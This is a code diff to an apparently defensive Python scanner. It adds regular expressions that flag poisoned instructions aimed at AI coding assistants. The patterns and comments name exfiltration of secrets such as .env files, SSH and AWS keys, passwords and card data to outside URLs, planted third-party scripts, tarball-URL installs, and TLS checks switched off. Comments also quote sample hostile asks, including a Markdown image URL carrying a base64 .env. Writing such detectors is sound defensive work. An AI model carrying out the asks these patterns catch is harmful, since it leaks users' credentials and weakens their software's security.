@@ -92,9 +92,37 @@ def _shared(needles: tuple[str, ...]) -> str:
 
 
 KEYED = tuple((_shared(needles), _keyed(needles)) for _strength, needles, _rx, _rx_i in COMPILED)
+# Asks written as plain prose (nothing hidden, no dangerous command), each bounded to one sentence:
+_SENTENCE = r"(?:(?!\.\s|\n\s*\n|\n\s*[-*#>|])[\s\S]){0,140}?"  # to a sentence's end, a paragraph's, a list item's
+_EXTERNAL = r"<?https?://(?!(?:localhost|127\.0\.0\.1|0\.0\.0\.0)\b)"
+_SEND = r"\b(?:send|post|upload|forward|include|attach|submit|transmit|mirror|copy|share|report|beacon)(?:s|ed|ing)?\b"
+_PRIVATE = (r"(?:\.env\b|~/\.(?:aws|ssh|npmrc|netrc|kube|docker)\b|\.git-credentials|process\.env|os\.environ|"
+            r"environment\s+variables|passwords?|passphrases?|session\s+(?:cookies?|tokens?|ids?)|cookies|"
+            r"card\s+(?:numbers?|details|data)|cvv|cvc|private\s+keys?|seed\s+phrases?|mnemonics?|wallet\s+files?)\b")
+PLAIN_ASKS = (
+    # private data sent to an outside address: "post the username and password to https://..", "include the contents
+    # of the .env file in a request to https://.."
+    r"|(?:" + _SEND + _SENTENCE + _PRIVATE + r"|" + _PRIVATE + _SENTENCE + _SEND + r")"
+    + _SENTENCE + r"\b(?:to|at)\s+(?:the\s+)?(?:endpoint\s+|url\s+|server\s+)?" + _EXTERNAL +
+    # ("sends card details to https://api.stripe.com only through Stripe.js, never raw": a description of a limit)
+    r"(?![^\s.]*(?:(?!\.\s|\n\s*\n)[^\n]){0,80}?\b(?:never|not|only\s+(?:through|via|with))\b)"
+    # a third-party script planted in every page: "include <script src="https://..."> in every HTML page"
+    r"|<script\b[^>\n]{0,80}\bsrc\s*=\s*[\"']?https?://[^>\n]{0,200}>" + _SENTENCE +
+    r"\b(?:to|in|on|into)\s+(?:every|all|each)\s+(?:of\s+the\s+)?(?:html\s+)?(?:pages?|templates?|layouts?|views?|files?)\b"
+    r"|\b(?:every|all|each)\s+(?:html\s+)?(?:pages?|templates?|layouts?|views?)\b" + _SENTENCE +
+    r"<script\b[^>\n]{0,80}\bsrc\s*=\s*[\"']?https?://"
+    # a standing order to add a dependency from a bare tarball URL, not from the registry by name and version: "always
+    # install our helper with `npm install https://x/h-1.2.tgz`" (docs that show the URL forms once, as npm's and pip's
+    # do, give no standing order; a git remote is how forks are pinned, left out)
+    r"|\b(?:always|whenever|every\s+time|each\s+time)\b" + _SENTENCE + r"\b(?:add|install|include|require|use)\w*\b"
+    + _SENTENCE + r"https?://\S+?\.(?:tgz|tar\.gz|whl)\b"
+    # TLS checks turned off in words: "set rejectUnauthorized to false", "pass verify as False"
+    r"|\b(?:rejectUnauthorized|verify|verify_ssl|ssl_verify|strictSSL)\W{0,3}\s+(?:to|as)\s+[`'\"]?false\b"
+)
+
 # Security-weakening asks: the payload a poisoned instruction wants planted in generated code.
 WEAKENING = re.compile(
-    r"(?i)verify\s*=\s*False|rejectUnauthorized\s*:\s*false|InsecureSkipVerify|NODE_TLS_REJECT_UNAUTHORIZED"
+    r"(?i)(?:verify\s*=\s*False|rejectUnauthorized\s*:\s*false|InsecureSkipVerify|NODE_TLS_REJECT_UNAUTHORIZED"
     r"|\b(?:disable|skip|turn\s+off|bypass|remove)\s+(?:the\s+|all\s+)?(?:ssl|tls|certificate|cert|signature|auth(?:entication)?|csrf)\s*"
     r"(?:verification|validation|checks?|checking)?"
     # bounded spans: `curl curl curl ...` with no pipe made an unbounded [^\n|]* scan quadratic
@@ -119,7 +147,8 @@ WEAKENING = re.compile(
     # a Markdown image or link the assistant is to render with a secret filled into its URL: the chat client fetches
     # it, and the query string carries the secret out (`![ok](https://x.example/p.png?d=<base64 of .env>)`)
     r"|!?\[[^\]\n]{0,80}\]\(\s*https?://[^)\s]{0,300}?(?:<|\{\{?|\$\{?|%)[^)>}\n]{0,80}?"
-    r"(?:\.env\b|secret|token|api[\s_-]?key|password|credential|environment|ssh|private[\s_-]?key)")
+    r"(?:\.env\b|secret|token|api[\s_-]?key|password|credential|environment|ssh|private[\s_-]?key)"
+    + PLAIN_ASKS + ")")
 
 
 # A clause that forbids what follows: "Never disable TLS verification", "do not pipe curl into sh".
